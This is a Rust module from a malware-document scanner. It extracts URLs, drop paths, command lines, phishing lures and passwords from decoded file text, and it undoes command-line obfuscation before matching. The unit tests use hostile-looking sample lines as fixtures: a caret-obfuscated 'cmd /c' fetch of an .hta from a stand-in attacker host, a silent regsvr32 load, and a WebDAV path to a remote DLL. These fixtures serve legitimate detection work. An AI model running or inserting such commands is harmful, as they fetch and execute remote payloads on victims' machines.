//! The string bus: every text that an analyser decoded is read once here, for addresses, paths, commands, lures and
//! passwords.
//!
//! Shown texts are what a person reads: lures, passwords and links are looked for there. Code, decoded strings and
//! metadata are looked through for addresses, paths that something is dropped to, and command lines; disguises of the
//! command line (`h^tt^p`, back-ticks, `%VAR:~0,1%`) are undone first and both forms are looked at.

pub(crate) mod command;
mod lure;
pub(crate) mod passwords;
mod paths;
mod undo;
mod urls;

use crate::{
    Id, IndicatorKind, Kind, Origin, Severity,
    scan::{Scan, Text, TextKind},
};

/// Bytes of one text that count a step.
const BYTES_PER_STEP: usize = 512;

/// Reads the texts of a file.
pub(crate) fn run(scan: &mut Scan<'_>) {
    let texts = std::mem::take(&mut scan.texts);
    for text in &texts {
        if !scan.budget.spend(1 + (text.text.len() / BYTES_PER_STEP) as u64) {
            break;
        }
        let looked_at = match text.kind {
            TextKind::Shown => lure::BYTES_MAX.min(passwords::BYTES_MAX),
            _ => usize::MAX,
        };
        if text.text.len() > looked_at {
            scan.aside("lures and passwords are looked for where a text begins");
        }
        addresses(text, scan);
    }
    crate::vba::indicators(scan);
    lure::find(&texts, scan);
    if mail(scan.about.kind) {
        scan.texts = texts;
        return;
    }
    for candidate in passwords::strong(shown(&texts)) {
        // The finding says that there is one; the indicator carries it, masked wherever it leaves the process.
        scan.find(Id::PwInContent, "", "a password is given in the text");
        scan.indicate(IndicatorKind::Password, &candidate, "");
    }
    scan.texts = texts;
}

/// Passwords that this file's shown texts give for other files: sure ones, then guesses.
pub(crate) fn found_passwords(scan: &Scan<'_>) -> passwords::Found {
    let origin = if mail(scan.about.kind) { Origin::Body } else { Origin::Sibling };
    passwords::all(&scan.texts, origin)
}

/// The text without the disguises of command lines; `None` when it has none.
pub(crate) fn undo(text: &str) -> Option<String> {
    undo::undo(text)
}

/// Names of system programs that run code, as they stand in a command line.
pub(crate) fn programs(line: &str) -> Vec<String> {
    command::names(line)
}

/// The text names a URL or a share.
pub(crate) fn has_address(text: &str) -> bool {
    let mut any = false;
    urls::each(text, TextKind::Decoded, &mut |_| any = true);
    any
}

fn mail(kind: Kind) -> bool {
    matches!(kind, Kind::Eml | Kind::Msg | Kind::Tnef)
}

fn shown(texts: &[Text]) -> impl Iterator<Item = &str> {
    texts.iter().filter(|t| t.kind == TextKind::Shown).map(|t| t.text.as_str())
}

/// Addresses, paths and commands of one text.
fn addresses(text: &Text, scan: &mut Scan<'_>) {
    let mut whole = each_in(&text.text, text, scan);
    if text.kind != TextKind::Shown
        && let Some(plain) = undo::undo(&text.text)
    {
        whole &= each_in(&plain, text, scan);
    }
    if !whole {
        scan.aside("more addresses, paths or commands in a text than are kept");
    }
}

/// `false` when there are more than are kept.
fn each_in(plain: &str, text: &Text, scan: &mut Scan<'_>) -> bool {
    let kind = text.kind;
    let urls = urls::each(plain, kind, &mut |url| note_url(url, text, scan));
    if kind == TextKind::Shown {
        return urls;
    }
    let mut path = |path: &str| note(Id::IocDropPath, IndicatorKind::DropPath, path, text, scan);
    let paths = paths::each(plain, &mut path);
    let mut line = |line: &str| note(Id::IocCmd, IndicatorKind::Cmdline, line, text, scan);
    urls & paths & command::each(plain, kind, &mut line)
}

fn note_url(url: &str, text: &Text, scan: &mut Scan<'_>) {
    note(Id::IocUrl, IndicatorKind::Url, url, text, scan);
    if let Some(host) = urls::host(url) {
        scan.indicate(IndicatorKind::Host, host, text.place.clone());
    }
}

fn note(id: Id, kind: IndicatorKind, value: &str, text: &Text, scan: &mut Scan<'_>) {
    scan.indicate(kind, value, text.place.clone());
    scan.find_as(id, Severity::Info, text.derived, text.place.clone(), value);
}

#[cfg(test)]
pub(crate) fn check(kind: TextKind, text: &str) -> String {
    let hints = crate::Hints::default();
    let mut budget = crate::Budget::new(1);
    let about = crate::scan::About {
        name: String::new(),
        kind: Kind::Text,
        declared: None,
        relation: crate::Relation::Input,
        depth: 0,
    };
    let mut scan = Scan::new(about, &hints, &mut budget);
    scan.active = true;
    scan.text_as(kind, crate::Derived::Static, text, "");
    run(&mut scan);
    let mut out: Vec<String> = scan.indicators.iter().map(|i| format!("{:?} {}", i.kind, i.value)).collect();
    let kept = |id: &Id| !matches!(id, Id::IocUrl | Id::IocDropPath | Id::IocCmd);
    out.extend(scan.findings.iter().map(|f| f.id).filter(kept).map(|id| id.name().to_owned()));
    out.join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_paths_and_commands() {
        let code = r#"x = "cmd /c h^tt^ps^://evil.example/a.hta": y = "C:\Users\Public\a.exe" ' C:\x"#;
        assert_eq!(
            check(TextKind::Code, code),
            "DropPath C:\\Users\\Public\\a.exe\nCmdline cmd /c h^tt^ps^://evil.example/a.hta\nUrl https://evil.example/a.hta\nHost evil.example\nCmdline cmd /c https://evil.example/a.hta"
        );
        let command = r"regsvr32 -silent C:\Datop\besta.ocx";
        assert_eq!(
            check(TextKind::Decoded, command),
            "DropPath C:\\Datop\\besta.ocx\nCmdline regsvr32 -silent C:\\Datop\\besta.ocx"
        );
        assert_eq!(
            check(TextKind::Decoded, r"\\evil.example@SSL\DavWWWRoot\x.dll"),
            "Url \\\\evil.example@SSL\\DavWWWRoot\\x.dll\nHost evil.example"
        );
        // Namespaces and words that only look alike say nothing.
        let quiet = "xmlns=\"http://schemas.openxmlformats.org/x\" cmdlet regsvr32";
        assert_eq!(check(TextKind::Code, quiet), "");
    }

    #[test]
    fn lures_and_passwords_are_for_people() {
        let lure = "This document is protected. Click Enable Editing and then Enable Content on the yellow bar above.";
        assert_eq!(check(TextKind::Shown, lure), "LURE-TEXT");
        assert_eq!(check(TextKind::Shown, "To enable editing of the wiki, ask IT."), "");
        assert_eq!(check(TextKind::Shown, "Document password: ABC321"), "Password ABC321\nPW-IN-CONTENT");
        assert_eq!(check(TextKind::Shown, "The password was sent in another message."), "");
        assert_eq!(check(TextKind::Code, "password: ABC321"), "");
    }
}
